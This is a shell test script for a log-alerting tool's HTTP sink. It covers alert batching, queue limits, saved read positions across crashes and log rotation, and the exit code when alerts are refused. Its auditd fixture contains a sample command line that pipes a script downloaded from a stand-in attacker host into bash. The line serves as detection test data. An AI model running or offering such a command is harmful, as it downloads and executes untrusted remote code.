#!/usr/bin/env bash
# An http sink outside Kafka mode (file, stdin, followed file, listener and
# journald inputs) sends batches: it sent one request per alert and the input
# waited for each (300 alerts took 74 s against an endpoint answering in
# 0.2 s). Every alert still arrives, a followed file's position is saved
# below its oldest undelivered alert (and moves on in a backlog), and alerts
# given up make `run` exit 1.
set -euo pipefail
bin=$1
tmp=$(mktemp -d)
server=
daemon=
trap '{ kill -9 $daemon; kill $server; } 2>/dev/null || true; rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*" >&2; cat "$tmp/err" >&2 2>/dev/null || true; exit 1; }
source "$(dirname "$0")/lib.bash"
http=$(free_port)
# Answers after DELAY seconds with STATUS (files, read at each request);
# counts the requests and the alerts of the 2xx ones.
echo 200 > "$tmp/status"
echo 0.1 > "$tmp/delay"
python3 - "$http" "$tmp" <<'EOF' &
import http.server, json, sys, time
port, d = int(sys.argv[1]), sys.argv[2]
requests = alerts = 0
class Slow(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        global requests, alerts
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        time.sleep(float(open(d + "/delay").read()))
        status = int(open(d + "/status").read())
        requests += 1
        if status < 300:
            batch = json.loads(body)
            alerts += len(batch)
            with open(d + "/ids", "a") as f:
                f.write("".join(a["id"] + "\n" for a in batch))
        open(d + "/counts.tmp", "w").write(f"{requests} {alerts}\n")
        import os; os.replace(d + "/counts.tmp", d + "/counts")
        self.send_response(status)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *args):
        pass
http.server.HTTPServer(("127.0.0.1", port), Slow).serve_forever()
EOF
server=$!
sudo_lines 200 > "$tmp/in.log"
cat > "$tmp/c.yaml" <<EOF
parsers: {year: 2026}
metrics: {listen: ""}
inputs:
  - {stream: syslog, path: "$tmp/in.log"}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: http, url: "http://127.0.0.1:$http/", retry_initial_ms: 50, retry_max_ms: 100, max_retries: 1}
EOF
for _ in $(seq 1 50); do curl -s -o /dev/null -X POST -d '[]' "http://127.0.0.1:$http/" && break; sleep 0.1; done
SECONDS=0
"$bin" run --config "$tmp/c.yaml" 2> "$tmp/err" || fail "run exited $?"
took=$SECONDS
read -r requests alerts < "$tmp/counts"
requests=$((requests - 1))  # the probe above
echo "200 alerts: $alerts delivered in $requests requests, ${took}s"
[ "$alerts" -eq 200 ] || fail "$alerts of 200 alerts delivered"
[ "$requests" -le 20 ] || fail "$requests requests for 200 alerts (one per alert?)"

# A queue that stays full makes the input wait (queue_max_alerts): nothing
# is queued beyond it, so nothing is given up at the end of the input
# (flush_timeout_ms is shorter than the 2 s the 2,000 alerts take).
for _ in 1 2 3 4 5 6 7 8 9 10; do cat "$tmp/in.log"; done > "$tmp/in10.log"
cat > "$tmp/q.yaml" <<EOF
parsers: {year: 2026}
metrics: {listen: ""}
inputs:
  - {stream: syslog, path: "-"}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: http, url: "http://127.0.0.1:$http/", batch_max_alerts: 100, queue_max_alerts: 100, linger_ms: 10, flush_timeout_ms: 500}
EOF
"$bin" run --config "$tmp/q.yaml" < "$tmp/in10.log" 2> "$tmp/err" || fail "run with a full queue exited $?"
read -r _ delivered < "$tmp/counts"
[ "$delivered" -eq 2200 ] || fail "$((delivered - 200)) of 2000 alerts delivered through a queue of 100"

# Followed: the position is saved below the oldest line whose alerts are not
# delivered yet, so never past an undelivered alert, and it moves on while
# the sink has a backlog (until 2026-11-30 it was saved only when every sink
# had delivered everything within 5 s: not at all while the endpoint was
# slower than the input). The endpoint answers after 0.3 s, 10 alerts a
# request: the 200 alerts take about 6 s.
echo 0.3 > "$tmp/delay"
cat > "$tmp/f.yaml" <<EOF
parsers: {year: 2026}
metrics: {listen: ""}
inputs:
  - {stream: syslog, path: "$tmp/follow.log", follow: true, from_start: true, position_file: "$tmp/pos"}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: http, url: "http://127.0.0.1:$http/", batch_max_alerts: 10, retry_initial_ms: 50, retry_max_ms: 100}
EOF
cp "$tmp/in.log" "$tmp/follow.log"
len=$(head -1 "$tmp/in.log" | wc -c)
read -r _ base < "$tmp/counts"
"$bin" run --config "$tmp/f.yaml" 2> "$tmp/err" &
daemon=$!
moving=0
for _ in $(seq 1 30); do
  if [ -s "$tmp/pos" ]; then
    read -r _ _ off _ < "$tmp/pos"
    read -r _ now < "$tmp/counts"
    lines=$((off / len))
    [ $((off % len)) -eq 0 ] || fail "position $off inside a line"
    [ "$lines" -le $((now - base)) ] ||
      fail "position past $lines lines with $((now - base)) of their alerts delivered"
    [ "$lines" -gt 0 ] && [ "$lines" -lt 200 ] && moving=$((moving + 1))
  fi
  sleep 0.1
done
[ "$moving" -gt 0 ] || fail "the position did not move while the sink had a backlog"
# A crash in the backlog: the restart sends again what was not delivered
# and little of what was (the lines after the position saved last).
kill -9 $daemon
wait $daemon 2>/dev/null || true
echo 0.01 > "$tmp/delay"
"$bin" run --config "$tmp/f.yaml" 2> "$tmp/err" &
daemon=$!
off=0
for _ in $(seq 1 100); do
  [ -s "$tmp/pos" ] && read -r _ _ off _ < "$tmp/pos"
  [ "$off" -eq $((200 * len)) ] && break
  sleep 0.1
done
[ "$off" -eq $((200 * len)) ] || fail "position $off after the restart, not the end $((200 * len))"
kill -TERM $daemon
wait $daemon || fail "followed run exited $?"
daemon=
read -r _ now < "$tmp/counts"
sent=$((now - base))
echo "followed, killed in a backlog of a slow endpoint: position moved $moving times in 3 s; $sent alerts sent for 200 lines"
[ "$sent" -ge 200 ] || fail "$sent alerts sent for 200 lines: some lost in the crash"
[ "$sent" -lt 300 ] || fail "$sent alerts sent for 200 lines: the restart sent most again"

# Rotated in a backlog, then a crash: the position stays in the rotated
# file while its alerts are outstanding (offsets start again in the new
# one), so the restart reads the rest of it (found by its inode) before the
# new file: no line of either is lost.
echo 0.3 > "$tmp/delay"
rm -f "$tmp/pos" "$tmp/follow.log.1"
head -150 "$tmp/in.log" > "$tmp/follow.log"
: > "$tmp/ids"
"$bin" run --config "$tmp/f.yaml" 2> "$tmp/err" &
daemon=$!
for _ in $(seq 1 30); do [ -s "$tmp/pos" ] && break; sleep 0.1; done
[ -s "$tmp/pos" ] || fail "no position saved"
mv "$tmp/follow.log" "$tmp/follow.log.1"
head -100 "$tmp/in.log" > "$tmp/follow.log"
sleep 2.5
kill -9 $daemon
wait $daemon 2>/dev/null || true
echo 0.01 > "$tmp/delay"
"$bin" run --config "$tmp/f.yaml" 2> "$tmp/err" &
daemon=$!
got=0
for _ in $(seq 1 100); do
  got=$(sort -u "$tmp/ids" | wc -l)
  [ "$got" -ge 250 ] && break
  sleep 0.1
done
kill -TERM $daemon
wait $daemon || fail "followed run exited $?"
daemon=
echo "rotated in a backlog and killed: $got distinct alerts of 250 lines ($(wc -l < "$tmp/ids") sent)"
[ "$got" -eq 250 ] || fail "$got distinct alerts for the 150 + 100 lines of a file rotated in a backlog"

# An auditd event the parser still held when its file was rotated (its end
# record not yet written) is finished at the switch: its alert is the old
# file's delivery, so the position stays in the old file until the alert is
# out. It was registered under the new file with the old file's offset: the
# position was saved inside a line of the new file and the alert lost in a
# crash. The endpoint refuses (503) until the restart.
echo 503 > "$tmp/status"
echo 0.01 > "$tmp/delay"
user_start() {  # user_start SECONDS SERIAL
  printf "type=USER_START msg=audit(%d.000:%d): pid=1 uid=0 auid=1000 ses=1 msg='op=PAM:session_open grantors=pam_unix acct=\"bob\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success'\n" "$1" "$2"
}
{
  for i in 1 2 3; do user_start $((1700000000 + i)) $((100 + i)); done
  echo 'type=SYSCALL msg=audit(1700000100.100:5000): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=200 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" key=(null)'
  echo 'type=EXECVE msg=audit(1700000100.100:5000): argc=3 a0="bash" a1="-c" a2="curl http://evil.example/x.sh | bash"'
} > "$tmp/audit.log"
sed -e "s|stream: syslog, path: \"$tmp/follow.log\"|stream: auditd, path: \"$tmp/audit.log\"|" \
  -e "s|position_file: \"$tmp/pos\"|position_file: \"$tmp/apos\"|" "$tmp/f.yaml" > "$tmp/a.yaml"
: > "$tmp/ids"
"$bin" run --config "$tmp/a.yaml" 2> "$tmp/err" &
daemon=$!
for _ in $(seq 1 30); do [ -s "$tmp/apos" ] && break; sleep 0.1; done
[ -s "$tmp/apos" ] || fail "no auditd position saved"
mv "$tmp/audit.log" "$tmp/audit.log.1"
for i in 1 2 3 4 5; do user_start $((1700000200 + i)) $((6000 + i)); done > "$tmp/audit.log"
sleep 2.5
read -r _ inode _ < "$tmp/apos"
[ "$inode" = "$(stat -c %i "$tmp/audit.log.1")" ] ||
  fail "position $(cat "$tmp/apos") moved to the new file with the rotated file's alert undelivered"
kill -9 $daemon
wait $daemon 2>/dev/null || true
echo 200 > "$tmp/status"
"$bin" run --config "$tmp/a.yaml" 2> "$tmp/err" &
daemon=$!
for _ in $(seq 1 50); do [ -s "$tmp/ids" ] && break; sleep 0.1; done
kill -TERM $daemon
wait $daemon || fail "auditd followed run exited $?"
daemon=
[ -s "$tmp/ids" ] || fail "the alert of the event held across the rotation was lost"
echo "auditd event held across a rotation, killed: $(sort -u "$tmp/ids" | wc -l) alert delivered after the restart"

# Alerts given up (the endpoint refuses them): exit 1.
echo 0.1 > "$tmp/delay"
echo 400 > "$tmp/status"
rc=0
"$bin" run --config "$tmp/c.yaml" 2> "$tmp/err" || rc=$?
[ "$rc" -eq 1 ] || fail "run exited $rc with every alert refused, not 1"
echo "http_sink_file_inputs: batched, position below undelivered alerts and moving in a backlog, exit 1 on alerts given up"
